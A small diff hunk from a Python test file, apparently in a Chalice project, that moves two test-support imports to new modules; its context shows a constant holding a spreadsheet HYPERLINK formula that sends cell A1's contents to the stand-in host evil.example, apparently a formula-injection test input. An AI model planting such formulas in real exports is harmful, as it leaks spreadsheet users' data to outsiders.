@@ -11,8 +11,8 @@ import pytest
 
 from chalicelib.domain.clock import add_months
 from chalicelib.domain.youth import majority_date
-from tests.integration import followup_world as fw
-from tests.integration import support as s
+from tests.support import integration as s
+from tests.support import reporting_world as fw
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
 
